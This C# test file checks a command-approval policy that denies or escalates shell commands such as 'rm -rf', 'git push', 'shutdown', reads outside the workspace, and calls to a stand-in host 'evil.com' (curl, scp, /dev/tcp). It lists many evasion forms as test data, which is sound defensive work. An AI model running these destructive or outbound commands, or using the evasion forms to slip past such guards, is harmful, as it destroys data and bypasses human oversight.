using Tether.Protocol.Model;
using Xunit;

namespace Tether.Daemon.Tests.Approvals.Policy;

/// <summary>What rules that deny reach, when the session's mode would allow everything.</summary>
public sealed class RestrictingRuleTests
{
    private static readonly string[] Denied = ["rm -rf", "git push", "shutdown"];

    [Theory]
    [InlineData("rm -rf x")]
    [InlineData("/bin/rm -rf x")]
    [InlineData("\\rm -rf x")]
    [InlineData("'rm' -rf x")]
    [InlineData("rm -fr x")]
    [InlineData("rm -r -f x")]
    [InlineData("rm --recursive --force x")]
    [InlineData("git status && rm -rf x")]
    [InlineData("echo $(rm -rf x)")]
    [InlineData("(cd sub; rm -rf x)")]
    [InlineData("bash -c 'rm -rf x'")]
    [InlineData("/bin/bash -lc 'rm -rf x'")]
    [InlineData("sudo rm -rf x")]
    [InlineData("env A=b rm -rf x")]
    [InlineData("timeout 5 rm -rf x")]
    [InlineData("xargs rm -rf")]
    [InlineData("find . -exec rm -rf {} +")]
    [InlineData("eval 'rm -rf x'")]
    [InlineData("f() { rm -rf x; }; f")]
    [InlineData("cat <<EOF\n$(rm -rf x)\nEOF")]
    [InlineData("bash <<'EOF'\nrm -rf x\nEOF")]
    [InlineData("noglob rm -rf x")]
    [InlineData("trap 'rm -rf x' EXIT")]
    [InlineData("watch 'rm -rf x'")]
    [InlineData("git push")]
    [InlineData("git push --force")]
    [InlineData("shutdown now")]
    [InlineData("/sbin/shutdown")]
    [InlineData("rm -rf x; $(unclosed")]
    public void Deny_what_they_name_wherever_it_stands(string command)
    {
        using var rig = new PolicyRig();
        rig.Deny(Denied);
        var verdict = rig.Verdict(rig.Command(command), ApprovalMode.Bypass);

        // Behind an end that cannot be read nothing is certain, and a person decides.
        Assert.Equal(command.Contains("unclosed", StringComparison.Ordinal) ? PolicyVerdict.Ask : PolicyVerdict.Deny, verdict);
    }

    [Theory]
    [InlineData("$CMD -rf x")]
    [InlineData("rm $FLAGS x")]
    [InlineData("rm -v $X")]
    [InlineData("r? -rf x")]
    [InlineData("{rm,-rf,x}")]
    [InlineData("git -C sub push")]
    [InlineData("git --git-dir=x push")]
    [InlineData("git $SUB")]
    [InlineData("parallel rm -rf ::: x")]
    [InlineData("ssh host 'rm -rf x'")]
    [InlineData("docker run img sh -c 'rm -rf /'")]
    [InlineData("python3 -c 'import os; os.system(\"shutdown\")'")]
    [InlineData("echo $((x))")]
    [InlineData("bash -c $X")]
    [InlineData("eval $X")]
    [InlineData("git status 'unclosed")]
    public void Ask_what_may_be_what_they_name(string command)
    {
        using var rig = new PolicyRig();
        rig.Deny(Denied);
        Assert.Equal(PolicyVerdict.Ask, rig.Verdict(rig.Command(command), ApprovalMode.Bypass));
    }

    [Theory]
    [InlineData("ls")]
    [InlineData("rm x")]
    [InlineData("rm -r x")]
    [InlineData("git pushx")]
    [InlineData("git commit -m push")]
    [InlineData("git commit -m 'rm -rf x'")]
    [InlineData("echo rm -rf x")]
    [InlineData("cat <<'EOF'\nrm -rf x\nEOF")]
    [InlineData("ls # rm -rf x")]
    public void Leave_all_else_to_the_mode(string command)
    {
        using var rig = new PolicyRig();
        rig.Deny(Denied);
        Assert.Equal(PolicyVerdict.Allow, rig.Verdict(rig.Command(command), ApprovalMode.Bypass));
    }

    [Theory]
    [InlineData("cat outside-link", "Allow")]
    [InlineData("cat $ROOT/outside/secret.txt", "Deny")]
    [InlineData("cat out/secret.txt", "Deny")]
    [InlineData("cat ./sub/../out/secret.txt", "Deny")]
    [InlineData("cd out && cat secret.txt", "Deny")]
    [InlineData("cd $ROOT && cat outside/secret.txt", "Deny")]
    [InlineData("echo x > out/new.txt", "Deny")]
    [InlineData("cat < out/secret.txt", "Deny")]
    [InlineData("tool --file=out/secret.txt", "Deny")]
    [InlineData("rm -r $ROOT", "Ask")]
    [InlineData("cat $X", "Ask")]
    [InlineData("cd $X && cat secret.txt", "Ask")]
    [InlineData("ln -s $ROOT l && cat l/outside/secret.txt", "Ask")]
    [InlineData("cat notes.txt", "Allow")]
    public void Deny_paths_by_what_they_lead_to(string command, string verdict)
    {
        using var rig = new PolicyRig();
        rig.Add(new PolicyRule { Verdict = PolicyVerdict.Deny, Paths = [rig.Expand("$ROOT/outside/**")] });
        Assert.Equal(Enum.Parse<PolicyVerdict>(verdict), rig.Verdict(rig.Command(command), ApprovalMode.Bypass));
    }

    [Theory]
    [InlineData("curl https://evil.com/x", "Deny")]
    [InlineData("curl -s http://user:pw@EVIL.com:8080/x", "Deny")]
    [InlineData("wget sub.evil.com", "Deny")]
    [InlineData("git clone git@evil.com:a/b", "Deny")]
    [InlineData("ssh -p 22 root@evil.com ls", "Deny")]
    [InlineData("scp a evil.com:b", "Deny")]
    [InlineData("exec 3<>/dev/tcp/evil.com/80", "Deny")]
    [InlineData("curl https://good.org", "Allow")]
    [InlineData("curl $URL", "Ask")]
    [InlineData("git push", "Ask")]
    [InlineData("ls", "Allow")]
    public void Deny_hosts(string command, string verdict)
    {
        using var rig = new PolicyRig();
        rig.Add(new PolicyRule { Verdict = PolicyVerdict.Deny, Hosts = ["evil.com", "*.evil.com"] });
        Assert.Equal(Enum.Parse<PolicyVerdict>(verdict), rig.Verdict(rig.Command(command), ApprovalMode.Bypass));
    }

    [Fact]
    public void What_asks_comes_before_what_allows_and_what_denies_before_both()
    {
        using var rig = new PolicyRig();
        rig.Allow("git");
        Assert.Equal(PolicyVerdict.Allow, rig.Verdict(rig.Command("git push")));
        rig.Add(new PolicyRule { Verdict = PolicyVerdict.Ask, Commands = ["git push"] });
        Assert.Equal(PolicyVerdict.Ask, rig.Verdict(rig.Command("git push"), ApprovalMode.Bypass));
        rig.Deny("git push");
        Assert.Equal(PolicyVerdict.Deny, rig.Verdict(rig.Command("git push")));
    }
}
